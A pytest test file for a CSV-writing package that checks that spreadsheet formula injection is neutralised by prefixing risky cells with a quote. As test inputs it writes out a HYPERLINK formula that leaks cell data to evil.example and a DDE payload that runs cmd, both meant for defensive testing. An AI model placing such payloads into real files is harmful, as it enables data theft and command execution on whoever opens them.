"""Every CSV qipp writes is formula-safe: text a spreadsheet would run is written as text.

OWASP's CSV Injection advice: a text cell starting with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return gets a leading ``'``. Numbers, and text that is exactly
a plain number, stay as they are.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner
from conftest import CLAIMS_HEADER

from qipp.cli import main
from qipp.csvsafe import frame_to_csv, neutralise, safe_frame, safe_writer
from qipp.panel.intake.fix import write_fixed
from qipp.panel.io import panel_to_csv_text
from qipp.panel.schema import MONEY_COLUMNS
from qipp.panel.template import example_csv_text

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
DDE = "=cmd|' /C calc'!A0"
QIPP = Path(__file__).resolve().parents[2] / "qipp"


@pytest.mark.parametrize(
    "cell, written",
    [
        (HYPERLINK, "'" + HYPERLINK),
        (DDE, "'" + DDE),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("-", "'-"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-1.5", "-1.5"),
        ("+2", "+2"),
        ("-3.000", "-3.000"),
        ("-1e-5", "-1e-5"),
        ("plain text", "plain text"),
        ("a=b", "a=b"),
        ("", ""),
        ("'=already", "'=already"),
    ],
)
def test_a_text_cell_is_neutralised_only_when_a_spreadsheet_would_run_it(cell, written):
    assert neutralise(cell) == written
    assert neutralise(written) == written  # twice changes nothing more


@pytest.mark.parametrize("value", [-1.5, -2, 0.0, None, float("nan"), True])
def test_values_that_are_not_text_are_left_alone(value):
    assert neutralise(value) is value


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_frame_to_csv_neutralises_text_and_names_and_keeps_numbers():
    frame = pd.DataFrame(
        {
            "name": [HYPERLINK, "ok", None],
            "=column": ["x", "y", "z"],
            "value": [-1.5, 2.0, -0.25],
            "count": [-1, 0, 3],
            "mixed": ["-4.5", -4.5, "@x"],
        }
    )
    rows = _rows(frame_to_csv(frame))
    assert rows[0] == ["name", "'=column", "value", "count", "mixed"]
    assert rows[1] == ["'" + HYPERLINK, "x", "-1.5", "-1", "-4.5"]
    assert rows[3] == ["", "z", "-0.25", "3", "'@x"]
    read = pd.read_csv(io.StringIO(frame_to_csv(frame)))
    assert read["value"].tolist() == [-1.5, 2.0, -0.25]
    assert frame.loc[0, "name"] == HYPERLINK  # the caller's frame is not changed


def test_pandas_string_columns_are_neutralised_too():
    frame = pd.DataFrame({"name": pd.array([DDE, "fine"], dtype="string")})
    assert safe_frame(frame)["name"].tolist() == ["'" + DDE, "fine"]


def test_the_safe_csv_writer_neutralises_every_row():
    out = io.StringIO()
    writer = safe_writer(out, lineterminator="\n")
    writer.writerow(["id", "note"])
    writer.writerows([["a", DDE], ["b", "-7"]])
    assert _rows(out.getvalue()) == [["id", "note"], ["a", "'" + DDE], ["b", "-7"]]


def test_qipp_claims_writes_a_users_formulas_as_text(write_csv, toy_sources_csv, tmp_path):
    body = "".join(
        f'{claim_id},src_a,"{quote.replace(chr(34), 2 * chr(34))}",{quantity},{value},pct,p,s,0.1,\n'
        for claim_id, quote, quantity, value in [
            ("a_pct", HYPERLINK, "toy", "1.5"),
            ("b_pct", DDE, "@toy", "-1.5"),
            ("c_pct", "a plain quote", "-toy", "2.5"),
        ]
    )
    claims = write_csv("claims.csv", f"{CLAIMS_HEADER}\n{body}")
    out = tmp_path / "out"
    result = CliRunner().invoke(
        main,
        [
            "claims",
            "--claims",
            str(claims),
            "--sources",
            str(toy_sources_csv),
            "--write-dir",
            str(out),
        ],
    )
    assert result.exit_code == 0, result.output
    table = pd.read_csv(out / "claims.csv", dtype={"quote": str, "quantity": str})
    assert table["quote"].tolist() == ["'" + HYPERLINK, "'" + DDE, "a plain quote"]
    assert table["quantity"].tolist() == ["toy", "'@toy", "'-toy"]
    assert table["value"].tolist() == [1.5, -1.5, 2.5]  # numbers stay numbers
    cells = [cell for row in _rows((out / "claims.csv").read_text()) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]


def _panel_row(**overrides: object) -> dict:
    row: dict = {column: 0.0 for column in MONEY_COLUMNS}
    row.update(
        ccg_code="S001",
        ccg_name="Synthetic CCG 001",
        region="London",
        allocation_gbp_m=300.0,
        uses_non_recurrent_fund=False,
        data_status="synthetic",
    )
    row.update(overrides)
    return row


def test_a_panel_csv_writes_a_formula_name_as_text_and_negative_money_as_numbers():
    first_money = MONEY_COLUMNS[1]
    frame = pd.DataFrame([_panel_row(ccg_name=DDE, **{first_money: -1.5})])
    header, row = _rows(panel_to_csv_text(frame))
    cells = dict(zip(header, row, strict=True))
    assert cells["ccg_name"] == "'" + DDE
    assert cells[first_money] == "-1.500"


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_panel_fix_writes_formulas_as_text_in_csv_and_xlsx(tmp_path, suffix):
    frame = pd.DataFrame({"ccg_name": [HYPERLINK], "notes": ["@note"], "value": [-2.0]})
    out = tmp_path / f"fixed{suffix}"
    write_fixed(frame, out)
    if suffix == ".csv":
        read = pd.read_csv(out)
    else:
        from openpyxl import load_workbook

        sheet = load_workbook(out)["Data"]
        assert [cell.data_type for cell in sheet[2]] == ["s", "s", "n"]  # no formula cell
        read = pd.read_excel(out, sheet_name="Data")
    assert read.iloc[0].tolist() == ["'" + HYPERLINK, "'@note", -2.0]


def test_the_example_panel_is_unchanged_by_the_helper():
    rows = _rows(example_csv_text())
    assert rows[1][:3] == ["02T", "NHS Calderdale CCG", "North of England"]
    assert all(not cell.startswith("'") for row in rows for cell in row)


def test_no_csv_is_written_in_qipp_but_through_the_helper():
    # Every writer goes through qipp.csvsafe: no other module calls to_csv or csv.writer.
    calls = re.compile(r"\.to_csv\(|csv\.(writer|DictWriter)\(")
    offenders = [
        path.relative_to(QIPP).as_posix()
        for path in sorted(QIPP.rglob("*.py"))
        if path.name != "csvsafe.py" and calls.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
